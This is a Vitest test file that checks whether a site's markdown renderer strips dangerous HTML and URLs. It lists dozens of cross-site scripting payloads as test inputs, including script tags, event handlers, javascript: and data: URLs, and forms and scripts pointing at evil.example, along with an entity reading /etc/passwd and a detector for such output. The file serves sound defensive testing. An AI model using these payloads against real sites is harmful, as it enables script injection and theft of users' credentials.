import type { Element, Root } from "hast";
import { fromHtml } from "hast-util-from-html";
import { renderToStaticMarkup } from "react-dom/server";
import { I18nextProvider } from "react-i18next";
import { createMemoryRouter, RouterProvider } from "react-router";
import { visit } from "unist-util-visit";
import { expect, test } from "vitest";
import { Prose } from "#app/components/prose/prose.tsx";
import { type MarkdownContext, renderMarkdown } from "#app/content/markdown/markdown.ts";
import { parseMarkdown } from "#app/content/markdown/parse-markdown.ts";
import { fixture } from "#tests/site/fixture-site.ts";

const context: MarkdownContext = {
  // What a fact holds is text, whatever it looks like.
  facts: new Map([
    ["contacto.email", "<script>alert(1)</script>"],
    ["contacto.telefono", "javascript:alert(1)"],
  ]),
  localiseHref: (href) => href,
  picture: (source) => ({ src: `/images/${source}`, width: 1200, height: 800, colour: "#b19a83" }),
  noteHref: (id) => `/terminos#${id}`,
  words: {
    note: "En qué se basa",
    noteMark: "*",
    footnotes: "Notas",
    footnoteBack: (number) => `Volver a la ${number}`,
  },
};

/** Returns what a browser makes of a text: the whole way from its file to the page. */
function show(text: string): Root {
  const body = renderMarkdown(parseMarkdown(text), context);
  const router = createMemoryRouter([{ path: "/", element: <Prose body={body} /> }]);
  return fromHtml(
    renderToStaticMarkup(
      <I18nextProvider i18n={fixture.locales.i18n("es")}>
        <RouterProvider router={router} />
      </I18nextProvider>,
    ),
    { fragment: true },
  );
}

/** Elements that a text may become. */
const harmless = new Set(
  "div p h1 h2 h3 h4 h5 h6 ul ol li a em strong del code pre blockquote hr br table thead tbody tr th td sup sub section input span picture source img svg path use small figure figcaption".split(
    " ",
  ),
);
const urlProperties = ["href", "src", "srcSet", "action", "formAction", "xLinkHref", "data", "poster", "cite"];

/** Returns what of a page could run, load or look like something that the site has not made. */
function dangersOf(tree: Root): string[] {
  const dangers: string[] = [];
  visit(tree, "element", ({ tagName, properties }: Element) => {
    if (!harmless.has(tagName)) dangers.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      // Our own, the colour of a picture's place.
      if (tagName === "img" && name === "style" && /^background-color:#[\da-f]{6}$/.test(String(value))) continue;
      if (/^on/i.test(name) || ["style", "srcDoc", "name", "is", "slot"].includes(name))
        dangers.push(`${tagName} ${name}`);
      // As browsers read URLs, which forgive control characters and spaces.
      const url = [...String(value)].filter((sign) => sign > " ").join("");
      const isSafe = /^(?:https?:|mailto:|tel:|ircs?:|xmpp:|\/|#|[^:]*$|[^:]*[/?#])/i.test(url);
      if (urlProperties.includes(name) && !isSafe) dangers.push(`${tagName} ${name}=${url}`);
    }
  });
  return dangers;
}

const inline = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/src=data:,alert(1)>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)"',
  "<img src=x:alert(1) onerror=eval(src)>",
  "<IMG SRC=javascript:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<applet code=x></applet>",
  "<base href=//evil.example/>",
  '<meta http-equiv="refresh" content="0; url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  "<style>body{display:none}</style>",
  "<style>@import '//evil.example/x.css';</style>",
  '<p style="background:url(//evil.example)">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  "<form action=//evil.example><input name=password></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<video poster=javascript:alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<dialog open onclose=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<title><img src=x onerror=alert(1)></title>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='x' onclick=alert(1)>x</a>",
  "<a id=pageData>x</a>",
  "<img name=getElementById>",
  "<x onclick=alert(1)>x</x>",
  "<x-element is=script>x</x-element>",
];

const urls = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#1;javascript:alert(1)",
  "javascript&#58;alert(1)",
  "javascript://%0Aalert(1)",
  "javas%63ript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/x",
  "view-source:javascript:alert(1)",
  "livescript:x",
  "feed:javascript:alert(1)",
  "jar:https://evil.example!/x",
  "file:///etc/passwd",
];

const markdown = [
  ...urls.flatMap((url) => [`[x](<${url}>)`, `[x]: <${url}>\n\n[x]`, `<${url}>`]),
  "[x](\u0001javascript:alert(1))",
  "[x](\njavascript:alert(1)\n)",
  "[x](https://a.example 'x\" onclick=\"alert(1)')",
  '![x" onerror="alert(1)](a.jpg)',
  "![x](a.jpg '\" onerror=\"alert(1)')",
  "[![x](javascript:alert(1))](javascript:alert(1))",
  'https://a.example/"onmouseover="alert(1)',
  "www.a.example/<script>alert(1)</script>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "    <script>alert(1)</script>",
  "| <script>alert(1)</script> | b |\n|---|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "## <script>alert(1)</script>",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  "- [x] <input onfocus=alert(1) autofocus>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  "Escribe a {{contacto.email}}.",
  "[x]({{contacto.telefono}})",
  "[{{contacto.email}}](tel:{{contacto.telefono}})",
];

test.each(inline)("%s in a text runs, loads and styles nothing", (attack) => {
  const places = [attack, `Uno ${attack} dos.`, `- ${attack}`, `> ${attack}`, `## ${attack}`, `**${attack}**`];
  for (const text of [...places, `| a |\n|---|\n| ${attack.replaceAll("|", "")} |`, `x[^1]\n\n[^1]: ${attack}`])
    expect(dangersOf(show(text)), text).toEqual([]);
});

test.each(markdown)("%s runs, loads and styles nothing", (text) => {
  expect(dangersOf(show(text))).toEqual([]);
});

test("what is refused is noticed", () => {
  const refused = fromHtml('<a href=" java\tscript:x" onclick=y style=z>a</a><iframe src="data:,x"></iframe>', {
    fragment: true,
  });
  expect(dangersOf(refused)).toEqual(["a href=javascript:x", "a onClick", "a style", "<iframe>", "iframe src=data:,x"]);
});
